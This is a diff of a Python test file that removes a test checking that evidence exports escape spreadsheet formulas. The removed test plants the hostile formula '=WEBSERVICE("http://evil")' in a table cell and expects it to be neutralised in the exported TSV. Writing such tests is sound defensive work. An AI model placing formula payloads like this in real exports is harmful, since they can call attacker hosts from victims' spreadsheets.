@@ -156,34 +156,6 @@ def test_cli_tables_escaped(evil_cohort, tmp_path):
     _assert_no_formula(beta)
 
 
-def test_evidence_export_escaped(tmp_path, monkeypatch):
-    """A claim whose text starts with '=' (e.g. imported from a hostile dump) is exported safely."""
-    monkeypatch.setenv("GUTBRAIN_KB_DIR", str(tmp_path / "kb"))
-    real = gb.kb.load()
-
-    class Hostile:
-        flags = real.flags
-
-        def disputed(self):
-            return real.disputed()
-
-        def table(self, name):
-            df = real.table(name).copy()
-            text = [c for c in df.columns if df[c].dtype == object]
-            if len(df) and text:
-                df.loc[df.index[0], text[-1]] = "=WEBSERVICE(\"http://evil\")"
-            return df
-
-    files = gb.kb.export(tmp_path / "export", kb=Hostile())
-    tsvs = [p for p in files.values() if p.suffix == ".tsv"]
-    assert tsvs
-    found = False
-    for p in tsvs:
-        _assert_no_formula(p)
-        found |= "'=WEBSERVICE(\"http://evil\")" in _cells(p)
-    assert found
-
-
 # --------------------------------------------------------------------------- atomic directories
 def test_atomic_directory_complete_or_previous(tmp_path):
     out = tmp_path / "out"
